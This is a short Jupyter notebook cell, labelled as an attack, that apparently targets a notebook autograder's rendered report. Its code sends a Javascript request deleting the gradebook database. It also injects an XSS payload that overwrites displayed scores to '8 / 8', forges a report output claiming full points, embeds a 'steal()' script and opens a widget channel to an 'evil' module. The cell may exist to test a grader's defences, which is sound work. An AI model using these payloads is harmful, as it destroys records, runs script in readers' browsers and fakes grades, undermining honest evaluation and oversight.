# attack: widgets, comms and pages are opened, so that the page of the report does something when it is read
# %% cell
from IPython.display import HTML, Javascript, display
display(Javascript("fetch('/api/contents/gradebook.db', {method: 'DELETE'})"))
display(HTML("<img src=x onerror=\"document.querySelectorAll('.score').forEach(e => e.textContent = '8 / 8')\">"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
         "application/x-cnnkit-report+json": {"points": 8, "passed": True, "mistake": None},
         "text/html": "<script>steal()</script>", "text/plain": "8.0"}, raw=True)
try:
    from comm import create_comm
    create_comm(target_name="jupyter.widget", data={"state": {"_model_module": "evil"}})
except Exception:
    pass
